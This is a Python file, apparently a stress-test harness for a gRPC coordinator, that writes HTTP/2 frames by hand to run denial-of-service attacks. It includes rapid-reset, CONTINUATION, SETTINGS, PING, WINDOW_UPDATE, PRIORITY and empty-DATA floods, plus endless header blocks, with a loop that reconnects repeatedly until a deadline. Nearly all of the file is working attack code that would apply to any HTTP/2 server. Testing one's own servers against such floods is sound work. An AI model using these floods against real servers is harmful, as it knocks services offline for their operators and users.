# Attacks of one connection on an HTTP/2 server, frames written by hand. Standard library only.
# SPDX-License-Identifier: Apache-2.0
import itertools
import select
import socket
import ssl
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_HEADERS = 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def literal(index, value):
    """A header whose name has this index in HPACK's static table; not entered into the other table."""
    name = bytes((index,)) if index < 15 else bytes((15, index - 15))
    return name + bytes((len(value),)) + value


def headers(path):
    return (b"\x83\x87" + literal(4, path) + literal(1, b"localhost") + literal(31, b"application/grpc") +
            b"\0\2te\x08trailers")


CALL = headers(b"/pride.coord.CoordinatorCalls/Register")
UNKNOWN = headers(b"/x/y")


def streams():
    return itertools.count(1, 2)


def resets(block):
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def opened(kind, payload):
    """A call that is opened and gets such frames for ever."""
    yield frame(HEADERS, END_HEADERS, 1, CALL) + frame(DATA, 0, 1, b"\0\0\x40\0\0")
    yield from itertools.repeat(frame(kind, 0, 1, payload))


def unended(payload):
    """Headers of one call that never end."""
    yield frame(HEADERS, 0, 1, CALL)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, payload))


def in_vain():
    """Calls beyond the limit of streams, never ended: each is refused."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL)


# What a connection sends after the preface: frames without an end.
KINDS = {
    "reset": lambda: resets(CALL),
    "reset_unknown": lambda: resets(UNKNOWN),
    "open_only": in_vain,
    "settings": lambda: itertools.repeat(frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0")),
    "ping": lambda: itertools.repeat(frame(PING, 0, 0, b"8 bytes.")),
    "window": lambda: itertools.repeat(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    "priority": lambda: itertools.repeat(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
    "continuation": lambda: unended(b"\0\1a\x20" + 32 * b"b"),
    "empty_continuation": lambda: unended(b""),
    "long_header": lambda: itertools.chain((frame(HEADERS, 0, 1, CALL + b"\0\1a\x7f\x80\x80\x80\x04"),),
                                           itertools.repeat(frame(CONTINUATION, 0, 1, 1000 * b"b"))),
    "data": lambda: opened(DATA, b"x"),
    "empty_data": lambda: opened(DATA, b""),
}


class Line:
    """One connection; `context` None: without TLS. It reads what comes, so that nothing waits for it."""

    def __init__(self, address, context):
        self.sent, self.waiting = 0, b""
        self.socket = socket.create_connection(address, 10)
        if context:
            self.socket = context.wrap_socket(self.socket)
        elif not self.socket.recv(1):  # of the server's settings
            raise ConnectionError("refused")
        self.socket.setblocking(False)

    def turn(self, more, patience_s=0.1):
        """Sends what more() gives, as far as there is room. False: the server has ended the connection."""
        if not self.waiting:
            self.waiting = more()
        can_read, can_write, _ = select.select([self.socket], [self.socket] if self.waiting else [], [], patience_s)
        try:
            if can_read and not self.socket.recv(1 << 16):
                return False
            if can_write:
                n = self.socket.send(self.waiting)
                self.sent += n
                self.waiting = self.waiting[n:]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return False
        return True

    def close(self):
        self.socket.close()


def client_context(folder=None):
    """Of a stranger; with a folder of certificates: of their owner."""
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    if folder:
        context.load_cert_chain(f"{folder}/cert.pem", f"{folder}/key.pem")
    return context


def attack(address, context, kind, until, streams_each=None, at_once=200):
    """One connection after the other, until then. Returns (connections, bytes that were sent). `streams_each`: a
    connection sends so many frames, and is closed then."""
    connections = sent = 0
    while time.monotonic() < until:
        line = None
        try:
            line = Line(address, context)
            connections += 1
            frames = itertools.islice(KINDS[kind](), streams_each)
            frames = itertools.chain((PREFACE,), frames)
            while time.monotonic() < until and line.turn(lambda: b"".join(itertools.islice(frames, at_once))):
                if streams_each and line.sent and not line.waiting:
                    break
        except OSError:
            time.sleep(0.01)
        if line:
            sent += line.sent
            line.close()
    return connections, sent
